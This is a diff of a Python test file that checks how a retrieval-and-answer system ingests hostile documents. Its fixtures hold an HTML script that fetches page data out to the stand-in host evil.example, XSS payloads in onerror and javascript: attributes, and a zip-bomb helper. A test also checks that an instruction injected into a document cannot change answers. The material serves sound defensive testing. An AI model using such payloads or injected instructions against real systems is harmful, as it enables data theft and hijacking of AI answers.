@@ -1,5 +1,6 @@
 """Documents nobody vetted: each is ingested safely or reported and skipped, the rest of the corpus ingests,
 nothing already indexed is lost, and an injected instruction never changes an unrelated answer."""
+
 from __future__ import annotations
 
 import random
@@ -28,13 +29,20 @@ HTML = """<html><head><script>alert('x'); fetch('https://evil.example/?c=' + doc
 <body><h1>1. Portal notes</h1><p onclick="steal()">The <b>eUprava</b> portal published <i>regional</i> service tutorials.</p>
 <img src=x onerror=alert(1)><iframe src="javascript:alert(2)"></iframe></body></html>
 """
-INVISIBLE = ("1. FIELD VISIT\nThe Kragu\u200bjevac data\u200d centre hosts the \u2060national\ufeff cloud.\x07\x1b[31m"
-             " Staff\u00ad training was held\u200e twice.\r\n\x0bThe visit ended.\x0c\n")
-CP1250 = ("1. INTERVJU\nMinistarstvo državne uprave i lokalne samouprave: Služba za upravljanje kadrovima "
-          "je održala obuke u Čačku, Nišu i Đakovici; ćirilica i latinica su podržane.\n")
+INVISIBLE = (
+    "1. FIELD VISIT\nThe Kragu\u200bjevac data\u200d centre hosts the \u2060national\ufeff cloud.\x07\x1b[31m"
+    " Staff\u00ad training was held\u200e twice.\r\n\x0bThe visit ended.\x0c\n"
+)
+CP1250 = (
+    "1. INTERVJU\nMinistarstvo državne uprave i lokalne samouprave: Služba za upravljanje kadrovima "
+    "je održala obuke u Čačku, Nišu i Đakovici; ćirilica i latinica su podržane.\n"
+)
 LATIN1 = "1. NOTES\nSeminar «Open data» in Beograd, 2021: 12 °C, ½ day, café with the © holders of the dataset, § 4.\n"
-QUESTIONS = ["What is the status of activity 1.4.2.2?", "Who is responsible for measure 1.3.5?",
-             "Why was the open data portal upgrade abandoned?"]
+QUESTIONS = [
+    "What is the status of activity 1.4.2.2?",
+    "Who is responsible for measure 1.3.5?",
+    "Why was the open data portal upgrade abandoned?",
+]
 
 
 def _zip_bomb(path: Path, unpacked_mb: int = 210) -> None:
@@ -83,8 +91,9 @@ def settings(tmp_path: Path) -> Settings:
     corpus = tmp_path / "corpus"
     corpus.mkdir()
     shutil.copy(CORPUS_FILE, corpus / CORPUS_FILE.name)
-    (corpus / "good.txt").write_text("1. GOOD NOTE\nThe municipality of Subotica joined the eZUP system in 2021.\n",
-                                     encoding="utf-8")
+    (corpus / "good.txt").write_text(
+        "1. GOOD NOTE\nThe municipality of Subotica joined the eZUP system in 2021.\n", encoding="utf-8"
+    )
     return Settings(data_dir=tmp_path / "data", corpus_dir=corpus, embed_model="hash:64")
 
 
@@ -152,7 +161,10 @@ def test_a_corpus_of_hostile_documents(settings: Settings) -> None:
     # Non-UTF-8 text is decoded to the right letters.
     assert "Služba za upravljanje kadrovima" in by_doc["hostile/serbian_cp1250.txt"][0].text
     assert "Čačku, Nišu i Đakovici" in by_doc["hostile/serbian_cp1250.txt"][0].text
-    assert "«Open data»" in by_doc["hostile/notes_latin1.txt"][0].text and "12 °C, ½ day, café" in by_doc["hostile/notes_latin1.txt"][0].text
+    assert (
+        "«Open data»" in by_doc["hostile/notes_latin1.txt"][0].text
+        and "12 °C, ½ day, café" in by_doc["hostile/notes_latin1.txt"][0].text
+    )
     # Markup is kept as inert text, never interpreted (the answer is JSON; front ends escape it).
     assert any("<script>" in ch.text for ch in by_doc["hostile/page.md"])
 
@@ -161,8 +173,12 @@ def test_a_corpus_of_hostile_documents(settings: Settings) -> None:
     assert not a.abstained and "abandoned" in a.answer.lower() and "42" not in a.answer
     assert all(c.source != "hostile/injected.txt" for c in a.citations)
     # Questions about the hostile text itself get an Answer, never an exception.
-    for q in ("<script>alert(1)</script>", "What did the consultant say about 42?", "Kragujevac data centre cloud",
-              "Služba za upravljanje kadrovima"):
+    for q in (
+        "<script>alert(1)</script>",
+        "What did the consultant say about 42?",
+        "Kragujevac data centre cloud",
+        "Služba za upravljanje kadrovima",
+    ):
         assert isinstance(ask(q, settings=settings).answer, str)
 
 
@@ -171,7 +187,15 @@ def test_a_10_mb_single_line(settings: Settings) -> None:
     ingest(settings=settings, quiet=True)
     before = _ids_and_hashes(settings)
     rnd = random.Random(7)
-    words = ["interoperability", "registry", "e-signature", "portal", "dataset", "municipality", "certificate"]
+    words = [
+        "interoperability",
+        "registry",
+        "e-signature",
+        "portal",
+        "dataset",
+        "municipality",
+        "certificate",
+    ]
     line = " ".join(rnd.choice(words) for _ in range(900_000))[:10_000_000]
     (settings.corpus_dir / "one_line.txt").write_text(line, encoding="utf-8")
     (settings.corpus_dir / "blob.txt").write_text("A" * 1_000_000, encoding="utf-8")  # one 'word' of 1 MB
@@ -187,12 +211,15 @@ def test_a_10_mb_single_line(settings: Settings) -> None:
     assert sum(len(c.text) for c in chunks if c.document == "one_line.txt") >= 9_900_000  # nothing dropped
 
 
-@pytest.mark.parametrize("raw, expected", [
-    (CP1250.encode("cp1250"), CP1250),
-    (LATIN1.encode("latin-1"), LATIN1),
-    ("Ćirilica: Министарство државне управе".encode(), "Ćirilica: Министарство државне управе"),
-    ("\ufeffBOM then text".encode("utf-8"), "BOM then text"),
-])
+@pytest.mark.parametrize(
+    "raw, expected",
+    [
+        (CP1250.encode("cp1250"), CP1250),
+        (LATIN1.encode("latin-1"), LATIN1),
+        ("Ćirilica: Министарство државне управе".encode(), "Ćirilica: Министарство државне управе"),
+        ("\ufeffBOM then text".encode("utf-8"), "BOM then text"),
+    ],
+)
 def test_decode_text_encodings(raw: bytes, expected: str) -> None:
     assert decode_text(raw) == expected
 
